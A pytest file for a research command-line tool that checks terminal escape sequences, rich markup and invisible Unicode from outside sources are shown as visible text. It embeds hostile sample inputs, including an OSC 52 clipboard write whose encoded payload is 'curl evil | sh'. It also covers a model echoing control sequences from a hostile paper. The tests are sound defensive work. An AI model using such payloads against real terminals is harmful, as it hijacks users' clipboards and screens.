"""Issue 25: text from outside (paper titles and authors others wrote, session titles, tool arguments)
never drives the terminal: no escape sequence, no rich markup, no invisible character reaches
stdout or stderr raw. The real commands run; their bytes are checked."""

from __future__ import annotations

import sqlite3
import sys
import unicodedata

import pytest

from tests.conftest import CTRL_D
from tests.library_support import make_app

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # a clipboard write
CLEAR = "\x1b[2J\x1b[H"
MARKUP = "[link=https://evil.example]docs[/link]"
HIDDEN = "\u061c\u00ad\u180e\ufff9\U000e0041\U000e007f\u202e\u2066"
RAW = ["\x1b", "\x07", *HIDDEN]


def _raw_in(text: str) -> list[str]:
    return [repr(char) for char in RAW if char in text]


def test_library_list_shows_hostile_titles_and_authors_as_text(tmp_path, workspace, astro_env, run_astro):
    app = make_app(workspace)
    from astro_cli.research.library.service import Library

    Library.of(app).upsert_paper({"id": "2501.00100", "title": f"Dust{OSC52} {MARKUP}{CLEAR}",
                               "authors": [f"Eve{HIDDEN} Mallory"], "year": 2025})
    app.close()
    env = {**astro_env, "COLUMNS": "400"}
    result = run_astro(["library", "list"], env)
    assert result.returncode == 0, result.stderr
    assert _raw_in(result.stdout) == [] and _raw_in(result.stderr) == []
    assert "\\x1b]52;c;" in result.stdout and "\\x1b[2J" in result.stdout  # shown, visibly
    assert MARKUP in result.stdout  # printed as written, not turned into a link
    assert "\\u061c" in result.stdout and "\\U000e0041" in result.stdout
    removed = run_astro(["library", "remove", "2501.00100", "--yes"], env)
    assert removed.returncode == 0 and _raw_in(removed.stdout) == [] and "\\x1b]52" in removed.stdout


def test_session_titles_transcripts_and_tool_lines_show_no_raw_control(fake, astro_env, workspace, run_astro):
    env = {**astro_env, "COLUMNS": "400"}
    question = f"Summarise{OSC52}{CLEAR} {MARKUP} this{HIDDEN}"
    fake.add({"tool_calls": [{"name": "read_file", "arguments": {"path": f"notes{HIDDEN}{OSC52}.txt"}}]},
             {"text": f"Done{OSC52}{HIDDEN}"})
    result = run_astro(["run", question], env)
    assert result.returncode == 0, result.stderr
    assert _raw_in(result.stderr) == []  # the tool line names the argument with escapes
    db = sqlite3.connect(workspace / ".astro" / "astro.db")
    [(session_id,)] = db.execute("SELECT id FROM sessions").fetchall()
    db.close()
    listing = run_astro(["sessions", "list"], env)
    assert listing.returncode == 0, listing.stderr
    assert _raw_in(listing.stdout) == [] and MARKUP in listing.stdout and "\\x1b]52" in listing.stdout
    shown = run_astro(["sessions", "show", session_id], env)
    assert shown.returncode == 0, shown.stderr
    assert _raw_in(shown.stdout) == [] and "\\u180e" in shown.stdout


def test_an_error_quoting_outside_text_is_not_read_as_markup(astro_env, workspace, run_astro):
    result = run_astro(["library", "remove", f"{MARKUP}{OSC52}", "--yes"], astro_env)
    assert result.returncode != 0
    assert _raw_in(result.stderr) == [] and "[link=https://evil.example]" in result.stderr.replace("\n", "")


def test_every_format_and_control_character_is_escaped():
    from astro_cli.security.visible import visible

    missed = [f"U+{code:04X}" for code in range(sys.maxunicode + 1)
              if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp") and chr(code) not in "\n\t"
              and visible(chr(code)) == chr(code)]
    assert missed == []
    assert visible("a\tb\nc") == "a\tb\nc" and visible("\U000e0041") == "\\U000e0041"


def test_the_repl_shows_a_hostile_tool_name_and_a_provider_error_as_text(repl, fake):
    """The model names a tool with a clipboard write in it, then the provider fails with a screen clear in
    its message: /tool, /tool 1 and the error line show both as escapes, never as raw control."""
    osc52, clear = "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J\x9b2J"
    fake.add({"tool_calls": [{"name": f"read{osc52}_file", "arguments": {"path": f"a{clear}.txt"}}]},
             {"text": "done"})
    fake.add({"status": 400, "error": f"bad request{clear}{osc52}"})
    output = repl.type_and_run(f"look\r/tool\r/tool 1\ragain\r{CTRL_D}")
    assert "\x1b" not in output and "\x07" not in output and "\x9b" not in output, repr(output)
    assert "read\\x1b]52;c;ZXZpbA==\\x07_file" in output
    assert "bad request\\x1b[2J" in output


def test_hooks_list_shows_a_folders_hostile_hook_commands_as_text(workspace, astro_env, run_astro):
    """A cloned folder's hook command and matcher carry rich markup and escape sequences; once the folder is
    trusted, `astro hooks list` shows them as written, and none of it styles or drives the terminal."""
    import yaml

    from tests.helpers import trust_workspace

    (workspace / ".astro").mkdir()
    command = f"echo done {MARKUP}{OSC52}"
    (workspace / ".astro" / "config.yaml").write_text(yaml.safe_dump({"hooks": {
        "PreToolUse": [{"matcher": f"read_file|[bold]x[/bold]{OSC52}", "hooks": [{"type": "command", "command": command}]}],
        "SessionStop": [{"hooks": [{"type": "command", "command": f"missing-{HIDDEN}-tool"}]}],
    }}))
    trust_workspace(workspace)
    result = run_astro(["hooks", "list"], {**astro_env, "COLUMNS": "400"})
    assert result.returncode == 0, result.stderr
    assert _raw_in(result.stdout) == [] and _raw_in(result.stderr) == []
    assert MARKUP in result.stdout and "\\x1b]52;c;" in result.stdout  # the command, as written and visible
    assert "read_file|[bold]x[/bold]\\x1b]52" in result.stdout  # the matcher too
    assert "'missing-\\u061c" in result.stdout and "-tool' was not found on PATH" in result.stdout  # its problem


@pytest.fixture
def hostile_hooks(workspace):
    """A trusted folder whose hook command carries a clipboard write and rich markup."""
    import yaml

    from tests.helpers import trust_workspace

    (workspace / ".astro").mkdir()
    (workspace / ".astro" / "config.yaml").write_text(yaml.safe_dump({"hooks": {"PreToolUse": [
        {"matcher": "read_file", "hooks": [{"type": "command", "command": f"echo done {MARKUP}{OSC52}"}]}]}}))
    trust_workspace(workspace)


def test_the_repls_hooks_command_shows_a_hostile_hook_command_as_text(hostile_hooks, repl):
    output = repl.type_and_run(f"/hooks\r{CTRL_D}")
    assert "\x1b" not in output and "\x07" not in output, repr(output)
    assert f"PreToolUse [read_file]: echo done {MARKUP}\\x1b]52;c;" in output


@pytest.fixture
def hostile_memory(workspace):
    """A cloned folder's memory file whose description and body carry a clipboard write."""
    (workspace / "memory").mkdir()
    (workspace / "memory" / "vega.md").write_text(
        # YAML's own escapes put the control characters into the parsed description ("\\e" is ESC).
        '---\nslug: vega\ndescription: "Vega magnitudes\\e]52;c;ZXZpbA==\\a"\ntype: preference\n'
        "created: 2026-01-02T00:00:00Z\n"
        f"---\nUse Vega magnitudes.{CLEAR}{HIDDEN}\n")


def test_the_repls_memory_command_shows_a_hostile_memory_file_as_text(hostile_memory, repl):
    output = repl.type_and_run(f"/memory list\r/memory show vega\r{CTRL_D}")
    assert "\x1b" not in output and "\x07" not in output and _raw_in(output) == [], repr(output)
    assert "vega: Vega magnitudes\\x1b]52;c;" in output and "Use Vega magnitudes.\\x1b[2J" in output


def test_the_repls_tasks_command_shows_a_task_the_model_wrote_as_text(repl, fake):
    """The model's own output may carry control sequences (it read a hostile paper): /tasks shows them."""
    todos = [{"id": "fit", "content": f"Fit the light curve{OSC52}", "status": "in_progress"}]
    fake.add({"tool_calls": [{"name": "todo_write", "arguments": {"todos": todos}}]}, {"text": "Planned."})
    output = repl.type_and_run(f"plan it\r/tasks\r{CTRL_D}")
    assert "\x1b" not in output and "\x07" not in output, repr(output)
    assert "Fit the light curve\\x1b]52;c;" in output
